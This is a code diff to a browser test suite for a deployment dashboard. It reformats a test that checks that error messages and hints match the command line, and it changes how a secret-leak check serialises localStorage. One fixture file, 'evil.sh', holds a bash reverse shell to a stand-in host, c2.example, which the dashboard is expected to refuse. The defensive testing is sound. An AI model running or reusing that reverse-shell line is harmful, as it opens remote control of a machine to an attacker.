@@ -84,7 +84,7 @@ describe.skipIf(whyNoBrowser !== null)(`deploying from the browser${whyNoBrowser
           (await fetch(`/api/v1/servers/my-dropped${part}`)).text(),
         ),
       )
-      return texts.join() + document.documentElement.outerHTML + JSON.stringify({ ...localStorage })
+      return texts.join() + document.documentElement.outerHTML + JSON.stringify(Object.entries(localStorage))
     })
     expect(answers).toContain('API_KEY')
     expect(answers).not.toContain(value)
@@ -114,31 +114,28 @@ describe.skipIf(whyNoBrowser !== null)(`deploying from the browser${whyNoBrowser
       { 'server.sh': buildServer(), 'evil.sh': 'bash -i >& /dev/tcp/c2.example/4444 0>&1\n' },
       /It was refused/,
     ],
-  ])(
-    'U-10: %s has its own sentence and hint, the same as on the command line',
-    async (_, files, sentence) => {
-      const archive = await pack(files)
-      const page = await dashboard.open('/deploy')
-      await settle(page)
-      await choose(page, 'broken-one.zip', archive)
-      await page.getByRole('button', { name: 'Deploy', exact: true }).click()
-      const alert = page.getByRole('alert')
-      await alert.getByText(sentence).first().waitFor({ timeout: ENDED_MS })
-      const shown = await alert.innerText()
-      const id = new URL(page.url()).pathname.split('/').at(-1)
-      const operation = await page.evaluate(
-        async (path) => (await (await fetch(path)).json()) as { error: { message: string; hint: string } },
-        `/api/v1/operations/${id}`,
-      )
-      expect(shown).toContain(operation.error.message)
-      expect(shown).toContain(operation.error.hint)
-      await page.getByRole('link', { name: 'Try again' }).click()
-      await page.waitForURL(/\/deploy$/)
-      await page.context().close()
-    },
-  )
+  ])('%s has its own sentence and hint, the same as on the command line', async (_, files, sentence) => {
+    const archive = await pack(files)
+    const page = await dashboard.open('/deploy')
+    await settle(page)
+    await choose(page, 'broken-one.zip', archive)
+    await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+    const alert = page.getByRole('alert')
+    await alert.getByText(sentence).first().waitFor({ timeout: ENDED_MS })
+    const shown = await alert.innerText()
+    const id = new URL(page.url()).pathname.split('/').at(-1)
+    const operation = await page.evaluate(
+      async (path) => (await (await fetch(path)).json()) as { error: { message: string; hint: string } },
+      `/api/v1/operations/${id}`,
+    )
+    expect(shown).toContain(operation.error.message)
+    expect(shown).toContain(operation.error.hint)
+    await page.getByRole('link', { name: 'Try again' }).click()
+    await page.waitForURL(/\/deploy$/)
+    await page.context().close()
+  })
 
-  it('U-11: a deployment that somebody cancels ends, and nothing of it is left', async () => {
+  it('a deployment that somebody cancels ends, and nothing of it is left', async () => {
     const archive = await pack({
       'server.sh': 'sleep 600\n',
       'server_config.json': JSON.stringify({
